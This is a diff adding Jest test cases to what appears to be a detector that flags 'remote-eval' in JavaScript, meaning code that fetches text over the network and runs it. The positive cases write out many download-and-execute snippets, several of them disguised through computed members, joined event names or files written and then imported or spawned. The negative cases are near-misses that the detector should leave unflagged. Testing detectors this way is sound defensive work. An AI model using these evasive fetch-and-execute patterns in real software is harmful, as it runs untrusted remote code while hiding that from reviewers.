@@ -197,6 +197,55 @@ describe('remote-eval: evaluations written around the links, with a download in 
   });
 });
 
+// Shapes docs/security.md listed as not linked until now: an event handled through a computed
+// member or another method, a stream read whole by a helper or by iteration, a member computed on
+// vm, on module or on an object given an evaluation, a path built by other calls.
+describe('remote-eval: events, members and paths computed another way, with a download in the file', () => {
+  test.each([
+    ['chunks kept by a handler of an event whose name is built by a call', "const https = require('https');\nconst E = ['da', 'ta'].join('');\nlet body = '';\nfunction handle(res) { res.on(E, (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ["a handler set through a computed member: res[on]('data', …)", "const https = require('https');\nconst on = 'on';\nlet body = '';\nfunction handle(res) { res[on]('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ["a handler set by res['on']('data', …)", "const https = require('https');\nlet body = '';\nfunction handle(res) { res['on']('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ['a handler set by addListener', "const https = require('https');\nlet body = '';\nfunction handle(res) { res.addListener('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ['a handler set by prependListener', "const https = require('https');\nlet body = '';\nfunction handle(res) { res.prependListener('data', (chunk) => { body += chunk; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ['a handler set by once, evaluating its chunk itself', "const https = require('https');\nfunction handle(res) { res.once('data', (chunk) => {\n{{PAD}}\nnew Function(chunk.toString())(); }); }\n{{PAD}}\nhttps.get(u, handle);"],
+    ['the response iterated by for await', "const https = require('https');\nconst res = await new Promise((ok) => https.get(u, ok));\nlet body = '';\n{{PAD}}\nfor await (const chunk of res) body += chunk;\n{{PAD}}\neval(body);"],
+    ['the response piped to concat-stream, whose callback evaluates it', "const https = require('https');\nconst concat = require('concat-stream');\nfunction handle(res) { res.pipe(concat((body) => {\n{{PAD}}\neval(body.toString()); })); }\n{{PAD}}\nhttps.get(u, handle);"],
+    ['the stream read whole by stream/consumers text(), run by Function', "const https = require('https');\nconst { text } = require('stream/consumers');\nconst res = await new Promise((ok) => https.get(u, ok));\n{{PAD}}\nconst source = await text(res);\n{{PAD}}\nnew Function(source)();"],
+    ["fetch's body read by the response's text(), run by Function", "const response = await fetch(u);\n{{PAD}}\nconst source = await response.text();\n{{PAD}}\nnew Function(source)();"],
+    ['vm by a computed member', "const vm = require('vm');\nconst k = pick();\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nvm[k](loaded);"],
+    ["vm by a member named by a constant: runInThisContext", "const vm = require('vm');\nconst k = 'runInThisContext';\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nvm[k](loaded);"],
+    ["require('vm') by a computed member", "const loaded = await (await fetch(u)).text();\n{{PAD}}\nrequire('vm')[k](loaded);"],
+    ['vm under another name by a computed member', "const v = require('node:vm');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nv[k](loaded);"],
+    ['module by a computed member (its _compile)', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nmodule[k](loaded, 'x.js');"],
+    ['an event emitted by a name built by a call, handled by an evaluator', "const https = require('https');\n{{PAD}}\nbus.on('code', (s) => eval(s));\n{{PAD}}\nconst E = ['co', 'de'].join('');\nhttps.get(u, (r) => { r.on('data', (c) => bus.emit(E, c)); });"],
+    ['an object whose member was given eval, called by a computed member', "const loader = {};\nloader.run = eval;\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nloader[k](loaded);"],
+    ['an object literal holding vm.runInThisContext, called by a computed member', "const vm = require('vm');\nconst loader = { go: vm.runInThisContext, id: 1 };\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nloader[k](loaded);"],
+    ['an object whose member was given Function, called by that member', "const loader = {};\nloader.run = Function;\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nloader.run(loaded)();"],
+    ['a path built by path.resolve and os.tmpdir, written, then spawned with node', "const { spawn } = require('child_process');\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(path.resolve(os.tmpdir(), 'x.js'), loaded);\n{{PAD}}\nspawn('node', [`${os.tmpdir()}/x.js`]);"],
+    ['a path written as new URL(…, import.meta.url), imported by the same URL', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(new URL('./x.js', import.meta.url), loaded);\n{{PAD}}\nawait import(new URL('./x.js', import.meta.url));"],
+    ['a path written by fileURLToPath(new URL(…)), imported by pathToFileURL(…).href', "const loaded = await (await fetch(u)).text();\nconst file = fileURLToPath(new URL('./x.js', import.meta.url));\n{{PAD}}\nawait writeFile(file, loaded);\n{{PAD}}\nawait import(pathToFileURL(file).href);"],
+    ['a path written under import.meta.dirname, required under __dirname', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(path.join(import.meta.dirname, 'x.js'), loaded);\n{{PAD}}\nrequire(`${__dirname}/x.js`);"],
+  ])('%s', (_name, code) => {
+    expect(flags(code.replaceAll('{{PAD}}', ''))).toEqual(['remote-eval']);
+    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual(['remote-eval']);
+  });
+
+  test.each([
+    ["a handler set through a computed member for another event ('end'), its argument evaluated", "const https = require('https');\nconst on = 'on';\nlet body = '';\nfunction handle(res) { res[on]('end', (n) => { body += n; }); }\n{{PAD}}\nhttps.get(u, handle);\n{{PAD}}\nsetTimeout(() => eval(body), 3000);"],
+    ['a file stream piped to concat-stream, evaluated, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nfs.createReadStream(p).pipe(concat((src) => eval(src.toString())));"],
+    ['the response piped to a file stream, its path read and evaluated as text of its own', "const https = require('https');\nfunction handle(res) { res.pipe(fs.createWriteStream(target)).on('finish', () => {\n{{PAD}}\nconst label = target;\nnew Function('return ' + JSON.stringify(label))(); }); }\n{{PAD}}\nhttps.get(u, handle);"],
+    ['a file stream iterated by for await, evaluated, the network elsewhere', "const https = require('https');\nhttps.get(u, save);\n{{PAD}}\nlet src = '';\nfor await (const line of fs.createReadStream(p)) src += line;\n{{PAD}}\neval(src);"],
+    ['vm by a member named by a constant that runs nothing (isContext)', "const vm = require('vm');\nconst k = 'isContext';\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nvm[k](loaded);"],
+    ['an object of plain functions called by a computed member with the download', "const handlers = { log: console.log, save: store };\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nhandlers[k](loaded);"],
+    ['an object whose member was given eval, called by a member named by a constant for another member', "const loader = { run: eval, show: print };\nconst k = 'show';\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nloader[k](loaded);"],
+    ["an event emitted by a name spelled out as another event's, the handler evaluating 'code'", "const https = require('https');\n{{PAD}}\nbus.on('code', (s) => eval(s));\n{{PAD}}\nconst E = 'chunk';\nhttps.get(u, (r) => { r.on('data', (c) => bus.emit(E, c)); });"],
+    ['an array indexed and called with the download', "const steps = [parse, check];\nconst loaded = await (await fetch(u)).text();\n{{PAD}}\nsteps[i](loaded);"],
+    ['a download written under the temporary folder, a file of the package imported by new URL', "const loaded = await (await fetch(u)).text();\n{{PAD}}\nfs.writeFileSync(path.resolve(os.tmpdir(), 'cache.txt'), loaded);\n{{PAD}}\nawait import(new URL('./lib/x.js', import.meta.url));"],
+  ])('%s', (_name, code) => {
+    expect(flags(code.replaceAll('{{PAD}}', UNRELATED))).toEqual([]);
+  });
+});
+
 describe('each rule at its edge (edits of real shapes)', () => {
   const recon = [
     "const os = require('os'); const https = require('https');",
